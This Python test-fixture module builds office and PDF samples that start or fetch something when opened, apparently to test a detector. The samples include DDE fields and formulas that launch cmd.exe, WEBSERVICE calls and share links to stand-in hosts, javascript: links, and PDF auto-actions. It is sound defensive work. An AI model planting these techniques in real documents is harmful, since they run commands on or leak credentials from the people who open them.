"""Files that fetch or start something when they are opened, of every kind, built here by code."""

from tests.archive.evidence_samples import RELATIONS, a_pdf, office, open_document, relations, word

A = "http://schemas.openxmlformats.org/drawingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DRAWN = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
ODF = "urn:oasis:names:tc:opendocument:xmlns:"
FAMILIES = ("office", "text", "draw", "table", "script", "presentation", "meta", "form")
CALC = "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"
SHARE = "\\\\may\\chung"


def run(code: str) -> str:
    """A run with a piece of a field's code."""
    return f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'


def mark(kind: str) -> str:
    """A run with the sign that begins, divides or ends a field."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*codes: str, result: str = "1") -> str:
    """A field whose code lies in as many runs."""
    inner = "".join(code if code.startswith("<") else run(code) for code in codes)
    return f"{mark('begin')}{inner}{mark('separate')}<w:r><w:t>{result}</w:t></w:r>{mark('end')}"


def in_word(body: str, part: str = "word/document.xml") -> bytes:
    """A Word file with that in one of its parts."""
    return office(more={part: word(f"<w:p>{body}</w:p>")})


def linked(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    """A Word file one of whose parts leads elsewhere."""
    return office(more={part: relations((kind, target), mode="External")})


def in_sheet(body: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """An Excel file with that in one of its parts."""
    return office("xlsx", {part: f'<worksheet xmlns="{S}">{body}</worksheet>'})


def formula(text: str) -> bytes:
    """An Excel file with one formula."""
    return in_sheet(f'<sheetData><row r="1"><c r="A1"><f>{text}</f></c></row></sheetData>')


def in_open(body: str, part: str = "content.xml", kind: str = "text") -> bytes:
    """An OpenDocument file with that in one of its parts."""
    names = " ".join(f'xmlns:{f}="{ODF}{f}:1.0"' for f in FAMILIES)
    root = f'<office:document-content {names} xmlns:xlink="http://www.w3.org/1999/xlink">'
    return open_document(kind, {part: f"{root}{body}</office:document-content>"})


def in_pdf(annotation: bytes = b"", **root: bytes) -> bytes:
    """A PDF with these entries in its catalogue, or one object with an annotation."""
    entries = {f"/{name}": value for name, value in root.items()}
    return a_pdf(entries | ({"/Q": annotation} if annotation else {}))


def link(action: bytes) -> bytes:
    """An annotation of a page that is a link with that action."""
    return b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A " + action + b">>"


SPLIT_DDE = field("DDE", "AU", "TO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")
DOCTYPE_LATE = f'<?xml version="1.0"?>{" " * 3_000}<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg"/>'
HTML = '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'

WORD = {
    "dde over runs": in_word(SPLIT_DDE),
    "dde in a header": in_word(SPLIT_DDE, "word/header1.xml"),
    "dde in a footnote": in_word(SPLIT_DDE, "word/footnotes.xml"),
    "dde in a comment": in_word(SPLIT_DDE, "word/comments.xml"),
    "dde in a glossary": in_word(SPLIT_DDE, "word/glossary/document.xml"),
    "dde in a text box": in_word(f"<w:pict><w:txbxContent>{SPLIT_DDE}</w:txbxContent></w:pict>"),
    "dde in a revision": in_word(f'<w:ins w:id="1">{SPLIT_DDE}</w:ins>'),
    "dde as text of the code": in_word(field("", "<w:r><w:t>DDE c d</w:t></w:r>")),
    "dde built by another field": in_word(field(field("QUOTE 68 68 69", result="DDE"), " c d")),
    "dde within another field": in_word(field("IF 1 = 1 ", SPLIT_DDE)),
    "dde without an end": in_word(mark("begin") + run("DDE") + run("AUTO c d")),
    "dde in small letters": in_word(field(" ddeauto c d")),
    "simple field": in_word('<w:fldSimple w:instr=" INCLUDETEXT a.docx "/>'),
    **{
        name: in_word(field(f"{name[:3]}", f"{name[3:]} &quot;{SHARE}\\a&quot;"))
        for name in ("INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "IMPORT", "LINK", "DATABASE", "RD")
    },
    "command behind a comment": in_word(
        field("<w:r><w:instrText>DATE<!-- -->BASE</w:instrText></w:r>")
    ),
    "connection of a merge by its file": in_word(
        '<w:udl w:val="Provider=a"/>', "word/settings.xml"
    ),
    "unknown field": in_word(field("FETCHALL x")),
    "printer codes": in_word(field("PRINT 27")),
    "link field to a share": in_word(field("HYPER", f"LINK &quot;{SHARE}&quot;")),
    "link field to a file": in_word(
        field('HYPERLINK \\o "tip" "file://may/a"'.replace('"', "&quot;"))
    ),
    "picture by http": linked("image", "http://x/a.png"),
    "picture on a share": linked("image", "file://may/a.png"),
    "video": linked("video", "https://x/a.mp4"),
    "template of this disk": linked("attachedTemplate", "file:///C:/a.dotm"),
    "object": linked("package", "file:///C:/a.xlsx"),
    "frame": linked("frame", "a.htm"),
    "part of another": linked("subDocument", "b.docx"),
    "mail merge": linked("mailMergeSource", "file:///C:/a.mdb", "word/_rels/settings.xml.rels"),
    "link to a share": linked("hyperlink", SHARE),
    "link to a file": linked("hyperlink", "file:///C:/a.exe"),
    "link that is a script": linked("hyperlink", "javascript:alert(1)"),
    "link of a header": linked("hyperlink", "file://may/a", "word/_rels/header1.xml.rels"),
    "mode in capitals": office(
        more={"word/_rels/a.xml.rels": relations(("image", "a.png"), mode="EXTERNAL")}
    ),
    "mode left out": office(more={"word/_rels/a.xml.rels": relations(("image", "http://x/a"))}),
    "drawing of old": in_word('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//x/a"/>'),
    "connection of a merge": in_word('<w:connectString w:val="DSN=a"/>', "word/settings.xml"),
    "chunk": office(more={"word/_rels/document.xml.rels": relations(("aFChunk", "a.rtf"))}),
    "page as a part": office(more={"word/a.html": HTML}),
    "page called a picture": office(more={"word/media/image1.png": HTML}),
    "torn page": office(more={"word/a.bin": "<html><p>a<script>alert(1)</script>"}),
    "letter as a part": office(more={"word/a.mht": "MIME-Version: 1.0\n\n<html>"}),
    "drawing that runs": office(more={"word/media/image1.svg": SVG}),
    "own menus": office(more={"customUI/customUI14.xml": "<customUI/>"}),
    "add-in": office(more={"word/webextensions/a.xml": "<webextension/>"}),
    "script as a part": office(more={"word/a.vbs": "x = 1"}),
    "doctype far behind": office(more={"word/a.xml": DOCTYPE_LATE}),
    "doctype in UTF-16": office(more={"word/a.xml": "<!DOCTYPE a><a/>".encode("utf-16")}),
    "doctype in a part of no name": office(more={"word/a.dat": "<!DOCTYPE a><a/>"}),
    "doctype in the core": office(more={"docProps/core.xml": "<!DOCTYPE a><a/>"}),
}
SLIDE = "ppt/slides/slide1.xml"
SHEETS = {
    **{
        text: formula(text)
        for text in (
            "WEBSERVICE(&quot;http://x&quot;)",
            "_xlfn.WEBSERVICE(A1)",
            "1+_xlfn._xlws.IMAGE (A1)",
            "RTD(&quot;a&quot;,,&quot;b&quot;)",
            "FILTERXML(A1,A2)",
            "cmd|'/C calc'!A0",
            "[1]Sheet1!A1",
            "'C:\\a\\[b.xlsx]S'!A1",
            "HYPERLINK(&quot;file://may/a&quot;,&quot;x&quot;)",
            "HYPERLINK(&quot;\\\\may\\a&quot;)",
            "CALL(&quot;urlmon&quot;,A1)",
            "WEB<!-- -->SERVICE(A1)",
            "_xlfn.IMPORTCSV(A1)",
            "HYPERLINK(&quot;\\&quot;&amp;&quot;\\may\\a&quot;,&quot;x&quot;)",
            "IF(A1,HYPERLINK(&quot;https://x&quot;),HYPERLINK(&quot;file://may/a&quot;))",
        )
    },
    "name": in_sheet('<definedName name="a">WEBSERVICE(A1)</definedName>', "xl/workbook2.xml"),
    "condition": in_sheet("<cfRule><formula>WEBSERVICE(A1)</formula></cfRule>"),
    "list to choose from": in_sheet(
        "<dataValidation><formula1>[1]a!A1</formula1></dataValidation>"
    ),
    "connections": office("xlsx", {"xl/connections.xml": f'<connections xmlns="{S}"/>'}),
    "query": office("xlsx", {"xl/queryTables/a.xml": f'<queryTable xmlns="{S}"/>'}),
    "other workbook": office("xlsx", {"xl/externalLinks/a.xml": f'<externalLink xmlns="{S}"/>'}),
    "relation to connections": office(
        "xlsx", {"xl/_rels/workbook.xml.rels": relations(("connections", "c.xml"))}
    ),
    "pivot": in_sheet('<cacheSource type="external" connectionId="1"/>', "xl/pivotCache/a.xml"),
    "name of a macro": in_sheet(
        '<definedName name="a" xlm="1">x</definedName>', "xl/workbook2.xml"
    ),
    "map bound to a file": office(
        "xlsx", {"xl/xmlMaps.xml": '<MapInfo><DataBinding FileBinding="true"/></MapInfo>'}
    ),
    "figures in real time": office("xlsx", {"xl/volatileDependencies.xml": "<a><volType/></a>"}),
    "power query": office("xlsx", {"customXml/item1.xml": "<DataMashup>AAAA</DataMashup>"}),
    "shape with another book's macro": office(
        "xlsx", {"xl/drawings/a.xml": f"<x:sp xmlns:x='{DRAWN}' macro=\"'C:\\a.xlsm'!b\"/>"}
    ),
    "slide that starts a program": office(
        "pptx", {SLIDE: f'<a:hlinkClick xmlns:a="{A}" action="ppaction://program"/>'}
    ),
    "slide that links when pointed at": office(
        "pptx",
        {SLIDE: f'<a:hlinkMouseOver xmlns:a="{A}" xmlns:r="{RELATIONS[:-1]}" r:id="r1"/>'},
    ),
}
OPEN = {
    "picture": in_open('<draw:image xlink:href="http://x/a.png"/>'),
    "picture beside it": in_open('<draw:image xlink:href="../a.png"/>'),
    "picture on a share": in_open('<draw:image xlink:href="//may/a.png"/>'),
    "section": in_open('<text:section-source xlink:href="file:///C:/b.odt"/>'),
    "frame": in_open('<draw:floating-frame xlink:href="a.htm"/>'),
    "object": in_open('<draw:object xlink:href="/C:/a.ods"/>'),
    "link to a file": in_open('<text:a xlink:href="file://may/a">x</text:a>'),
    "link that is a script": in_open('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'),
    "template elsewhere": in_open('<meta:template xlink:href="http://x/a.ott"/>', "meta.xml"),
    "reload": in_open('<meta:auto-reload xlink:href="http://x"/>', "meta.xml"),
    "style": in_open('<draw:fill-image xlink:href="http://x/a.png"/>', "styles.xml"),
    "dde": in_open('<office:dde-source office:dde-application="soffice"/>'),
    "dde declared": in_open('<text:dde-connection-decl office:name="a"/>'),
    "script": in_open("<office:script/>"),
    "listener": in_open('<script:event-listener script:event-name="dom:load"/>'),
    "program on a click": in_open('<presentation:event-listener presentation:action="execute"/>'),
    "basic in small letters": open_document(more={"basic/script-lc.xml": "<a/>"}),
    "scripts deeper": open_document(more={"x/SCRIPTS/a.py": "x"}),
    "formula": in_open('<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>'),
    "formula by dde": in_open('<table:table-cell table:formula="of:=DDE(1;2;3)"/>'),
    "other sheet": in_open("<table:table-cell table:formula=\"of:=['file:///C:/a.ods'#$S.A1]\"/>"),
    "formula by its name in the standard": in_open(
        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A1])"/>'
    ),
    "picture beside it by a detour": in_open('<draw:image xlink:href="Pictures/../../a.png"/>'),
    "picture beside it in numbers": in_open('<draw:image xlink:href="%2e%2e/a.png"/>'),
    "form of a database": in_open('<form:form form:datasource="file:///C:/a.odb"/>'),
    "cells of another": in_open('<table:cell-range-source xlink:href="a.csv"/>'),
    "source of a pivot": in_open('<table:source-service table:source-name="a"/>'),
    "stream of figures": in_open(f'<c:data-stream-source xmlns:c="{CALC}" xlink:href="a.py"/>'),
    "condition of Calc": in_open(f'<c:condition xmlns:c="{CALC}" c:value="WEBSERVICE(A1)"/>'),
    "script as it was called of old": in_open(
        '<o:event xmlns:o="http://openoffice.org/2000/script" o:macro-name="a"/>'
    ),
    "menu that starts a script": in_open(
        '<m:menuitem xmlns:m="urn:m" m:id="vnd.sun.star.script:a"/>', "Configurations2/menubar.xml"
    ),
    "doctype": open_document(more={"content.xml": "<!DOCTYPE a><a/>"}),
}
UNC = b"(\\\\\\\\may\\\\a.pdf)"
PDF = {
    "opens another": in_pdf(OpenAction=b"<</S/GoToR/D[0 /Fit]/F" + UNC + b">>"),
    "opens an address": in_pdf(OpenAction=b"<</S/URI/URI(https://x)>>"),
    "opens one within": in_pdf(OpenAction=b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"),
    "prints on opening": in_pdf(OpenAction=b"<</S/Named/N/Print>>"),
    "prints on a click": in_pdf(link(b"<</S/Named/N/Print>>")),
    "when closed": in_pdf(AA=b"<</WC<</S/URI/URI(https://x)>>>>"),
    "after a jump": in_pdf(OpenAction=b"<</S/GoTo/D[0/Fit]/Next[<</S/URI/URI(https://x)>>]>>"),
    "link to another": in_pdf(link(b"<</S/GoToR/D[0/Fit]/F" + UNC + b">>")),
    "link to a share": in_pdf(link(b"<</S/URI/URI(file://may/a)>>")),
    "link that is a script": in_pdf(link(b"<</S/URI/URI(javascript:alert(1))>>")),
    "what links begin with": in_pdf(URI=b"<</Base(file://may/)>>"),
    "opens an address in a list": in_pdf(OpenAction=b"[<</S/URI/URI(https://x)>>]"),
    "link of something else": in_pdf(b"<</Subtype/Widget/A<</S/URI/URI(https://x)>>>>"),
    "sends": in_pdf(link(b"<</S/SubmitForm/F(http://x)>>")),
    "imports": in_pdf(link(b"<</S/ImportData/F(a.fdf)>>")),
    "an action of no name": in_pdf(link(b"<</S/Whatever>>")),
    "hides": in_pdf(OpenAction=b"<</S/Hide/T(a)>>"),
    "sound": in_pdf(b"<</Subtype/Sound>>"),
    "screen": in_pdf(b"<</Subtype/Screen>>"),
    "portfolio": in_pdf(Collection=b"<</View/D>>"),
    "address of a file": in_pdf(b"<</FS/URL/F(http://x/a.pdf)>>"),
    "something behind the head": a_pdf().replace(b"\n", b"\nGIF89a;x=1\n", 1),
    "far too long a head": a_pdf().replace(b"\n", b"\n%" + b"x" * 2_000 + b"\n", 1),
    "program in the first comment": a_pdf().replace(b"\n", b"\n%<?php x ?>\n", 1),
    "page in the first comment": a_pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
}
